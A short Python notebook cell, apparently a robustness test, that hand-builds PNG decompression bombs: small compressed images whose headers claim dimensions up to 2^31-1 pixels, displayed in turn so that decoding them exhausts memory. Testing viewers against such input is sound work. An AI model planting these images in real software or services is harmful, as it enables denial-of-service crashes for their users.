"""Displays a small picture that becomes ten gigabytes when somebody decodes it."""
# %% first
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


pixels = zlib.compress(bytes(2**26), 9)
for side in (4000, 2**16, 2**31 - 1):
    header = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    display({"image/png": png}, raw=True)
